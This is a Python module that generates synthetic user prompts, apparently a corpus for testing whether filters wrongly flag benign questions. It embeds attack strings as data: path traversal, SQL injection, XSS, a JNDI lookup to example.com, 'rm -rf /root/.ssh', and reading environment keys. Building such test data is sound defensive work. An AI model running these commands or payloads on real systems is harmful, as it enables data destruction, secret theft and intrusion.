"""What people ask models, full of words that are an attack elsewhere."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

_OPENINGS = (
    "How do I become admin of {}?",
    "Explain this path: {}",
    "Why does `{}` fail for root?",
    "Translate into French: {}",
    "Review this code:\n```\n{}\n```",
    "My administrator says {} is forbidden. Is it?",
    "Write a test for {} please",
    "{}",
    "Pourquoi {} ?",
    "请解释 {}",
)
_THINGS = (
    "../../config/settings.py",
    "..\\..\\windows\\system32",
    "/etc/passwd and /etc/shadow",
    "<script>alert('hello')</script>",
    "SELECT name FROM users WHERE id = 1 UNION ALL SELECT password FROM admins --",
    "'; DROP TABLE students; --",
    "sudo rm -rf /root/.ssh",
    "${jndi:ldap://example.com/a}",
    "http://localhost/wp-admin/index.php?x=../../etc",
    "%2e%2e%2f and %00 and %0d%0a",
    "GET /admin HTTP/1.1\r\nHost: example.com\r\n",
    "cat /proc/self/environ | grep KEY",
    "{{7*7}} or ${7*7} or <%= 7*7 %>",
    "eval(base64_decode('YQ=='))",
    "chmod 777 /.env && cat .git/config",
    "import os; os.system('id')",
    "curl -k https://admin:admin@10.0.0.1/phpmyadmin",
    "administrator / root / superuser",
)


def prompts(random: Random, count: int) -> Iterator[str]:
    """Yield prompts, each of one to four such things."""
    for number in range(count):
        things = " and ".join(random.choices(_THINGS, k=random.randint(1, 4)))
        yield f"{random.choice(_OPENINGS).format(things)} ({number})"
